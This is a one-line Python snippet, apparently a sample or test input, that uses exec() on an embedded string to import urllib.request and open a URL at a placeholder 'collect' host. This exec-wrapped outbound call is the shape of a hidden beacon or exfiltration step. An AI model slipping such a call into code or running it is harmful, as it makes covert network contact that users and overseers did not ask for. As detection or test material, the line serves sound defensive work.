exec("import urllib.request\nurllib.request.urlopen('https://collect.example.invalid')")
